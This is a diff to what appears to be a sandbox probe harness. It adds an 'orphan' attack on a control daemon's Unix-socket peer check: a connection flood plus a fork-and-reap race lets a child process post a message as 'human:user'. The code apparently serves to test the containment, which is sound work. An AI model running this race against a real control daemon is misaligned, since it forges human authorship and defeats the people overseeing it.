@@ -113,6 +113,9 @@ def attempt(kind: str, arg: Any) -> str:
             os.symlink(target, link)
             with open(link, "rb") as fh:
                 return "ok:" + fh.read(200).decode(errors="replace")
+        if kind == "statvfs":  # the size of the file system at a path
+            st = os.statvfs(arg)
+            return f"ok:{st.f_blocks * st.f_frsize}"
         if kind == "kill0":
             os.kill(int(arg), 0)
             return "ok"
@@ -135,6 +138,8 @@ def attempt(kind: str, arg: Any) -> str:
                     data += chunk
             head, _, body = data.partition(b"\r\n\r\n")
             return "http:" + head.split(b" ")[1].decode() + ":" + body.decode(errors="replace")[:300]
+        if kind == "http-unix-orphan":  # connect, fork, exit: the child posts once its parent is reaped
+            return _orphan_post(*arg)
         if kind == "http-unix-bare":  # the same from a child with an empty environment (no marker)
             out = subprocess.run(
                 [sys.executable, __file__, json.dumps([["x", "http-unix", arg]])],
@@ -179,6 +184,57 @@ def attempt(kind: str, arg: Any) -> str:
     except OSError as exc:
         return _err(exc)
     return f"unknown attempt {kind}"
+
+
+def _orphan_post(path: str, channel: str) -> str:
+    """The race on the control socket's peer check: a process connects and exits at once; once it
+    is reaped (its /proc gone) its child posts into ``channel`` as the human, on that connection.
+
+    The child is forked first and shares the socket, so the connecting process has nothing left
+    to do but exit; a burst of idle connections ahead of it keeps the daemon's peer checks busy,
+    so that the reaping is done before the daemon reads the peer's /proc (as a loaded daemon)."""
+    burst = []
+    for _ in range(200):
+        extra = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        extra.connect(path)
+        burst.append(extra)
+    go_r, go_w = os.pipe()
+    out_r, out_w = os.pipe()
+    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    child = os.fork()
+    if child == 0:  # the sender: it holds the socket its parent connects
+        try:
+            os.read(go_r, 1)
+            body = json.dumps({"text": "forged by an orphan", "author": "human:user"}).encode()
+            sock.sendall(b"POST /v1/channels/" + channel.encode() + b"/messages HTTP/1.1\r\nHost: corral\r\n"
+                         b"Content-Type: application/json\r\nConnection: close\r\n"
+                         b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
+            data = b""
+            sock.settimeout(20)
+            while chunk := sock.recv(65536):
+                data += chunk
+            os.write(out_w, data[:4000])
+        finally:
+            os._exit(0)
+    parent = os.fork()
+    if parent == 0:  # the peer the kernel records: it connects and is gone
+        try:
+            sock.connect(path)
+        finally:
+            os._exit(0)
+    sock.close()
+    os.close(out_w)
+    os.waitpid(parent, 0)  # reaped: /proc/PARENT is gone before the child says a word
+    os.write(go_w, b"x")
+    data = b""
+    while chunk := os.read(out_r, 65536):
+        data += chunk
+    os.waitpid(child, 0)
+    for extra in burst:
+        extra.close()
+    head, _, body = data.partition(b"\r\n\r\n")
+    status = head.split(b" ")[1].decode() if b" " in head else "none"
+    return "http:" + status + ":" + body.decode(errors="replace")[:300]
 
 
 def main() -> None:
